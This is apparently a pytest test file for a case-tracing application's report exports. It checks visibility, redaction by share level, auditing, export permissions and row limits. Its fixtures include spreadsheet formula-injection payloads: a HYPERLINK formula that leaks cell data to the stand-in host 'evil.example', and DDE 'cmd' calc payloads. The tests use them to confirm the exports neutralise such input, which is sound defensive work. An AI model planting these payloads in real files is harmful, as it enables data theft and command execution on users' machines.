"""Exports: visible cases only, field redaction per level, formula injection neutralised in CSV
and XLSX, audit events, who may export, the row limit."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook

from audit.models import AuditEvent
from cases.actions import case_open
from reports.exports import ExportRequest, export
from tests.factories import sample_case_data
from tests.reports.conftest import make_case
from tracing.network.actions import request_send
from tracing.permissions import Level, share_grant, share_revoke

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
EMAIL = "amina.enquirer@example.org"


def _rows(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _export(client: Any, user: Any, **data: Any) -> Any:
    client.force_login(user)
    return client.post("/reports/exports/", {"kind": "cases", "format": "csv", **data})


@pytest.fixture
def hostile_case(personas: Any) -> Any:
    data = sample_case_data(separation_place=CMD)
    data["sought"][0]["names"] = [{"given_names": HYPERLINK, "family_name": "", "kind": "primary", "script": "Latn"}]
    data["sought"][0]["birth_place"] = SUM
    return case_open(acting_user=personas.supervisor, **data)


def test_case_csv_lists_visible_cases_with_formulas_neutralised(client: Any, personas: Any,
                                                                 hostile_case: Any) -> None:
    make_case(personas.partner_supervisor, created=hostile_case.created_at)  # KE: not visible to NL
    response = _export(client, personas.supervisor)
    assert response.status_code == 200 and "cases.csv" in response["Content-Disposition"]
    rows = _rows(response)
    assert rows[0][:3] == ["Reference", "Office", "State"] and len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Reference"] == hostile_case.reference and row["Office"] == "NL"
    assert row["Sought persons"] == "'" + HYPERLINK
    assert row["Place of separation"] == "'" + CMD
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_person_exports_neutralise_formulas_in_csv_and_xlsx(client: Any, personas: Any, hostile_case: Any) -> None:
    rows = _rows(_export(client, personas.supervisor, kind="persons"))
    by_role = {r[2]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert by_role["Sought person"]["Place of birth"] == "'" + SUM
    assert by_role["Sought person"]["Name"] == "'" + HYPERLINK
    assert by_role["Enquirer"]["Phone"] == "'+31612345678"  # stored normalised; readable, shown as text
    assert by_role["Enquirer"]["Email"] == EMAIL
    response = _export(client, personas.supervisor, kind="persons", format="xlsx")
    assert response.status_code == 200 and "persons.xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells if c.value is not None)  # never a formula
    hostile = {c.value: c for c in cells if c.value in (HYPERLINK, SUM, "+31612345678")}
    assert set(hostile) == {HYPERLINK, SUM, "+31612345678"}  # exact text, no apostrophe added
    assert all(c.quotePrefix for c in hostile.values())


def test_export_is_audited(client: Any, personas: Any, hostile_case: Any) -> None:
    client.force_login(personas.supervisor)
    before = AuditEvent.objects.count()
    _rows(client.post("/reports/exports/", {"kind": "persons", "format": "csv", "cause": "conflict"}))
    events = list(AuditEvent.objects.order_by("seq")[before:])
    assert [e.event_type for e in events] == ["access.export", "export"]
    read, export = events
    person_ids = {str(p.pk) for p in hostile_case.persons.all()}
    assert set(read.data["case_ids"]) == {str(hostile_case.pk)} and set(map(str, read.person_ids)) == person_ids
    assert export.data["what"] == "persons" and export.data["rows"] == len(person_ids)
    assert export.data["filters"]["cause"] == "conflict" and export.data["format"] == "csv"


def test_search_share_partner_gets_no_enquirer_contact(client: Any, personas: Any, open_case: Any) -> None:
    sought = open_case.persons.get(role="sought")
    request_send(acting_user=personas.supervisor, case_id=open_case.pk, to_office_id=personas.partner.pk,
                 sought_person_id=sought.pk, question="Q", due_date=date.today() + timedelta(days=9),  # noqa: DTZ011
                 share_level="search")
    rows = _rows(_export(client, personas.partner_caseworker, kind="persons"))
    text = "\n".join(",".join(r) for r in rows)
    assert EMAIL not in text and "12345678" not in text and "Keizersgracht" not in text
    by_role = {r[2]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert by_role["Sought person"]["Place of birth"] == "Kismayo"
    assert by_role["Enquirer"]["Name"] and by_role["Enquirer"]["Email"] == ""
    cases = _rows(_export(client, personas.partner_caseworker))
    row = dict(zip(cases[0], cases[1], strict=True))
    assert row["Reference"] == open_case.reference and row["Accepted"] == "" and row["Reason"] == ""


def test_who_may_export(client: Any, personas: Any, open_case: Any) -> None:
    assert _export(client, personas.admin).status_code == 403
    client.force_login(personas.nobody)
    assert client.get("/reports/exports/").status_code == 302
    # Auditors export case lists, not persons (the choice is not offered and is refused).
    assert len(_rows(_export(client, personas.auditor))) == 2
    refused = _export(client, personas.auditor, kind="persons")
    assert refused.status_code == 200 and "Select a valid choice." in refused.content.decode()
    # An outsider's export is empty: the home office's cases are not visible to it.
    assert _rows(_export(client, personas.outsider)) == [_rows(_export(client, personas.supervisor))[0]]


def test_row_limit_and_form_errors(client: Any, personas: Any, open_case: Any, settings: Any) -> None:
    case_open(acting_user=personas.supervisor, **sample_case_data())
    settings.REPORTS_EXPORT_MAX_ROWS = 1
    client.force_login(personas.supervisor)
    before = AuditEvent.objects.count()
    response = client.post("/reports/exports/", {"kind": "cases", "format": "csv"})
    assert response.status_code == 200 and "More than 1 rows" in response.content.decode()
    assert AuditEvent.objects.count() == before  # nothing exported, nothing recorded
    bad = _export(client, personas.supervisor, format="pdf", date_from="2025-02", date_to="2025-01")
    assert "Select a valid choice." in bad.content.decode()
    assert "The last month must not be before the first." in bad.content.decode()
    assert client.get("/reports/exports/").status_code == 200


def test_shredded_case_data_exports_empty_cells(client: Any, personas: Any, hostile_case: Any) -> None:
    from tracing.crypto.datakeys import data_key_destroy

    data_key_destroy(hostile_case.data_key)
    rows = _rows(_export(client, personas.supervisor))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Reference"] == hostile_case.reference and row["Place of separation"] == ""


def test_registers_are_not_exported(client: Any, personas: Any, hostile_case: Any) -> None:
    hostile_case.kind = "register"
    hostile_case.save(update_fields=["kind"])
    assert len(_rows(_export(client, personas.supervisor))) == 1  # the header only
    assert len(_rows(_export(client, personas.supervisor, kind="persons"))) == 1


def test_rows_follow_a_revocation_made_while_the_file_is_written(personas: Any, open_case: Any) -> None:
    sought = open_case.persons.get(role="sought")
    request_send(acting_user=personas.supervisor, case_id=open_case.pk, to_office_id=personas.partner.pk,
                 sought_person_id=sought.pk, question="Q", due_date=date.today() + timedelta(days=9),  # noqa: DTZ011
                 share_level="search")
    for kind in ("cases", "persons"):
        result = export(user=personas.partner_caseworker, req=ExportRequest(kind=kind, fmt="csv"))
        assert result.count >= 1
        share_revoke(open_case, personas.partner)
        assert list(result.rows) == []  # selected before, but not shown after the revocation
        share_grant(open_case, personas.partner, Level.SEARCH)
